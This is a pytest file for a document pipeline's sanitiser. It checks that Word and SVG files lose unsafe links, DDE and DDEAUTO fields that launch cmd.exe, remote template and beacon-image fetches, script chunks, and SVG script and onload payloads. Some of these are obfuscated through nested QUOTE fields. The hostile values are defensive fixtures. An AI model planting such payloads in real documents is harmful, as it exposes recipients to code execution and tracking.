"""What reaches out of a Word file is taken out of editions, told, and known to the gate."""

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from docx.document import Document
from docx.opc.constants import RELATIONSHIP_TYPE as KIND
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from docx.shared import Mm
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree
from PIL import Image

from pipeline.editions import style_docx
from pipeline.editions.reading import read_docx, read_html
from pipeline.errors import ExitCode
from pipeline.master import inspect_master, read_master
from pipeline.model import Format
from pipeline.reach import clean_svg, is_web_address
from pipeline.release.safety import examine_file
from pipeline.word.field_codes import cut_fields, reaches
from pipeline.word.outside import find_outside
from tests.conftest import run as invoke
from tests.editions.conftest import make_imprint

_KINDS = KIND.IMAGE.rpartition("/")[0]
GOOD = [
    "https://www.example.org/a?b=c#d",
    "HTTP://example.org",
    "mailto:help@example.org?subject=x",
    "tel:+855 23 123 456",
    "#place",
    "https://example.org/my file@2.pdf",
]
BAD = [
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "vbscript:x",
    "data:text/html;base64,AAAA",
    "file:///etc/passwd",
    "\\\\server\\share",
    "//server/share",
    "ms-word:ofe|u|http://x.example/a.docx",
    "search-ms:query=x",
    "https://un.org@evil.example/",
    "https://user:pass@evil.example/",
    "https://un.org\\@evil.example/",
    "https:evil.example",
    "http://",
    "mailto:a@b.example?attach=/etc/passwd",
    "ht\u200btps://example.org",
    "C:\\Users\\x",
    "other.docx",
    "http://exa mple.org/bad address|x",
    "",
]
RUN = ['DDEAUTO cmd.exe "/c calc.exe"', ' ddE "c:\\\\x" y', 'INCLUDEPICTURE "https://e.example/b.png" \\d',
       'INCLUDETEXT "https://e.example"', "LINK Excel.Sheet.8 \"C:\\\\a.xls\"", 'IMPORT x', 'RD "other.docx"',
       'HYPERLINK "javascript:x"', 'HYPERLINK \\o "tip" "javascript:x"', "HYPERLINK \\\\\\\\server\\\\share"]  # fmt: skip
STAY = [
    "PAGE",
    'HYPERLINK "https://example.org/a"',
    'HYPERLINK \\l "place" \\o "javascript:x"',
    "REF dde \\h",
    "= 1 + 2",
    "SEQ Figure \\* ARABIC",
    "ADDIN ZOTERO_ITEM CSL_CITATION",
]


@pytest.mark.parametrize("address", GOOD)
def test_a_link_leads_to_the_web_to_mail_to_a_telephone_or_inside(address: str) -> None:
    assert is_web_address(address)


@pytest.mark.parametrize("address", BAD)
def test_a_link_leads_nowhere_else(address: str) -> None:
    assert not is_web_address(address)


@given(st.text(max_size=4), st.sampled_from(["javascript", "data", "vbscript", "file"]))
def test_no_prefix_makes_a_script_a_web_address(before: str, scheme: str) -> None:
    assert not is_web_address(f"{before}{scheme}:x") or before.startswith("#")


@pytest.mark.parametrize(
    ("instruction", "wanted"), [*((one, True) for one in RUN), *((one, False) for one in STAY)]
)
def test_fields_that_fetch_or_run_are_known(instruction: str, wanted: bool) -> None:
    assert reaches(instruction) is wanted


def field(instruction: str, result: str, nested: str = "") -> str:
    """A complex field whose code is cut into runs, as those who hide it do."""
    inner = field(nested, "N") if nested else ""
    code = "".join(
        f'<w:r><w:instrText xml:space="preserve">{part.replace("&", "&amp;")}</w:instrText></w:r>'
        for part in (instruction[:3], instruction[3:])
    )
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return (
        f"{mark.format('begin')}{inner}{code}{mark.format('separate')}"
        f"<w:r><w:t>{result}</w:t></w:r>{mark.format('end')}"
    )


def armed(document: Document) -> None:
    """Every weapon of its kind, each with words that must stay."""
    for number, address in enumerate(BAD):
        identifier = document.part.relate_to(address or "x:", KIND.HYPERLINK, is_external=True)
        document.element.body.insert(
            0,
            parse_xml(
                f'<w:p {nsdecls("w", "r")}><w:hyperlink r:id="{identifier}"><w:r><w:t>link'
                f"{number}</w:t></w:r></w:hyperlink></w:p>"
            ),
        )
    for number, instruction in enumerate(RUN):
        document.element.body.insert(
            0, parse_xml(f"<w:p {nsdecls('w')}>{field(instruction, f'field{number}')}</w:p>")
        )
    simple = f'<w:p {nsdecls("w")}><w:fldSimple w:instr="DDE x y"><w:r><w:t>simple</w:t></w:r></w:fldSimple></w:p>'
    document.element.body.insert(0, parse_xml(simple))
    hidden = field(' "/c calc"', "quoted", nested="QUOTE 68 68 69")
    document.element.body.insert(0, parse_xml(f"<w:p {nsdecls('w')}>{hidden}</w:p>"))
    kept = field('HYPERLINK "https://good.example/"', "kept")
    document.element.body.insert(0, parse_xml(f"<w:p {nsdecls('w')}>{kept}</w:p>"))
    picture(document)
    chunk = docx.opc.part.Part(
        docx.opc.packuri.PackURI("/word/chunk.html"), "text/html", b"<script>x</script>",
        document.part.package,
    )  # fmt: skip
    identifier = document.part.relate_to(chunk, f"{_KINDS}/aFChunk")
    document.element.body.insert(
        0, parse_xml(f'<w:altChunk {nsdecls("w", "r")} r:id="{identifier}"/>')
    )
    settings = document.part._settings_part
    identifier = settings.relate_to(
        "https://evil.example/t.dotm", f"{_KINDS}/attachedTemplate", is_external=True
    )
    settings.element.insert(
        0, parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{identifier}"/>')
    )


def picture(document: Document) -> None:
    """A picture that Word fetches."""
    target = io.BytesIO()
    Image.new("RGB", (40, 30), "teal").save(target, "PNG")
    document.add_picture(target, width=Mm(20))
    document.inline_shapes[0]._inline.docPr.set("descr", "described")
    blip = document.inline_shapes[0]._inline.graphic.graphicData.pic.blipFill.blip
    blip.embed = document.part.relate_to(
        "https://evil.example/beacon.png", KIND.IMAGE, is_external=True
    )


def test_editions_carry_the_words_and_nothing_that_reaches_out(
    word_file: Callable[..., Path], tmp_path: Path
) -> None:
    path = word_file(armed)
    found = find_outside(path.read_bytes())
    checks = [one.check for one in found]
    assert checks.count("unsafe-link") == len(BAD)
    assert checks.count("reaching-field") == len(RUN) + 2
    assert checks.count("external-content") == 2
    assert checks.count("attached-template") == 1

    styled = tmp_path / "styled.docx"
    styled.write_bytes(style_docx(path.read_bytes(), make_imprint("en")))
    assert find_outside(styled.read_bytes()) == ()
    text = "\n".join(one.text for one in docx.Document(str(styled)).paragraphs)
    for word in (
        *(f"link{number}" for number in range(len(BAD))),
        *(f"field{number}" for number in range(len(RUN))),
        *("simple", "quoted", "kept", "described"),
    ):
        assert word in text
    with zipfile.ZipFile(styled) as package:
        whole = b"".join(
            package.read(name) for name in package.namelist() if name.endswith((".xml", ".rels"))
        )
    for weapon in (b"evil.example", b"DDEAUTO", b"INCLUDE", b"javascript", b"altChunk", b"<script"):
        assert weapon not in whole
    assert b"https://good.example/" in whole


def test_inspect_and_the_gate_know_them(word_file: Callable[..., Path]) -> None:
    path = word_file(armed)
    wanted = {"unsafe-link", "reaching-field", "external-content"}
    assert wanted <= {finding.check for finding in inspect_master(read_master(path))}
    assert wanted <= {one.check for one in examine_file(path, Format.DOCX, publisher="")}


@pytest.mark.parametrize(
    "inside",
    [
        '<image href="http://e.example/a.png"/>',
        '<image xlink:href="file:///a.png"/>',
        '<use href="http://e.example/a.svg#b"/>',
        '<a xlink:href="java&#9;script:x"><text>t</text></a>',
        "<script>x</script>",
        '<rect onload="x"/>',
        '<rect fill="url(http://e.example/#a)"/>',
        '<rect style="fill:u\\72l(//e.example/a)"/>',
        "<style>@import 'http://e.example/a.css';</style>",
        '<a><set attributeName="xlink:href" to="javascript:x"/></a>',
        '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://e.example"/></foreignObject>',
        '<image href="data:image/svg+xml;base64,AAAA"/>',
    ],
)
def test_a_drawing_keeps_nothing_that_fetches_or_runs(inside: str) -> None:
    head = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<circle r="3"/>'
    )
    cleaned, found = clean_svg(f"{head}{inside}</svg>".encode())
    assert found
    assert b"<circle" in cleaned
    assert clean_svg(cleaned) == (cleaned, ())


def test_a_drawing_that_reaches_nothing_stays_as_it_is() -> None:
    drawing = (
        b'<?xml version="1.0"?><!DOCTYPE svg><svg xmlns="http://www.w3.org/2000/svg"><style>a{fill:url(#b)}</style>'
        b'<a href="https://example.org"><use href="#b"/></a><image href="data:image/png;base64,AAAA"/></svg>'
    )
    assert clean_svg(drawing) == (drawing, ())


def _field(*parts: str) -> bytes:
    """A field whose code is made of these parts; a part in braces is a field of its own."""

    def mark(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    def code(text: str) -> str:
        return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'

    inner = "".join(
        mark("begin") + code(part[1:-1]) + mark("end") if part.startswith("{") else code(part)
        for part in parts
    )
    runs = mark("begin") + inner + mark("separate") + "<w:r><w:t>shown</w:t></w:r>" + mark("end")
    return f"<w:p {nsdecls('w')}>{runs}</w:p>".encode()


@pytest.mark.parametrize(
    ("parts", "cut"),
    [
        (("{QUOTE 68 68 69 65 85 84 79}", ' cmd "/c calc"'), True),
        (("{QUOTE DDE}", "AUTO cmd"), True),
        (("DDE", "{QUOTE AUTO}", " cmd"), True),
        ((" IF ", "{PAGE}", ' = 1 "a" "b"'), False),
        (("= ", "{PAGE}", " + 1"), False),
        ((" REF place \\h", ""), False),
    ],
)
def test_a_field_whose_name_another_field_makes_is_taken_for_one_that_reaches(
    parts: tuple[str, ...], cut: bool
) -> None:
    paragraph = parse_xml(_field(*parts))
    assert bool(list(cut_fields(paragraph))) is cut
    assert (b"fldChar" not in etree.tostring(paragraph)) is cut
    assert b"shown" in etree.tostring(paragraph)


_KEYWORDS = ("", "D", " IF ", " QUOTE ", " HYPERLINK ")


def _complex(code: str, result: str = "") -> str:
    """A complex field: its code as runs, and its result."""
    begin, separate, end = (
        f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
    )
    return f"{begin}{code}{separate + result if result else ''}{end}"


def _code(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def _text(text: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>'


_INNER = {
    "without a result": _complex(_code(' QUOTE "DDE" ')),
    "with one": _complex(_code(" QUOTE 68 "), _text("unseen")),
    "twice": _complex(_code(" QUOTE ") + _complex(_code(" QUOTE "), _text("un")), _text("seen")),
    "simple": f'<w:fldSimple w:instr=" QUOTE 68 ">{_text("unseen")}</w:fldSimple>',
    "in a link": f'<w:hyperlink w:anchor="x">{_complex(_code(" A "), _text("unseen"))}</w:hyperlink>',
    "in one run": _complex(_code(" A "), _text("unseen")).replace("</w:r><w:r>", ""),
}


def test_a_field_that_others_make_gives_its_visible_words_to_every_edition(
    word_file: Callable[..., Path], tmp_path: Path
) -> None:
    cases = [(inner, word) for inner in _INNER.values() for word in _KEYWORDS]

    def content(document: Document) -> None:
        document.add_heading("Title", 1)
        for number, (inner, keyword) in enumerate(cases):
            code = (_code(keyword) if keyword else "") + inner + _code(' cmd "a" ')
            across = f"{_text(f'across {number}')}</w:p><w:p>{_text('paragraphs')}"
            for line in _complex(code, _text("the words")), _complex(code, across):
                runs = f"<w:p>{_text(f'Before {number} ')}{line}{_text(f' after {number}.')}</w:p>"
                for one in list(parse_xml(f"<w:body {nsdecls('w')}>{runs}</w:body>")):
                    document.element.body.insert(len(document.element.body) - 1, one)

    project = ("--project", str(tmp_path / "project"))
    (tmp_path / "project").mkdir()
    source = str(word_file(content, "fields.docx"))
    assert invoke(*project, "init", source, "--locale", "vi") == ExitCode.DONE
    assert invoke(*project, "build", "en", "--format", "docx,html") == ExitCode.DONE
    folder = tmp_path / "project" / "output" / "en"
    for reading in (read_docx(folder / "fields-en.docx"), read_html(folder / "fields-en.html")):
        found = {" ".join(text.split()) for text in reading.paragraphs}
        for number in range(len(cases)):
            assert f"Before {number} the words after {number}." in found
            assert {f"Before {number} across {number}", f"paragraphs after {number}."} <= found
        assert "unseen" not in reading.text
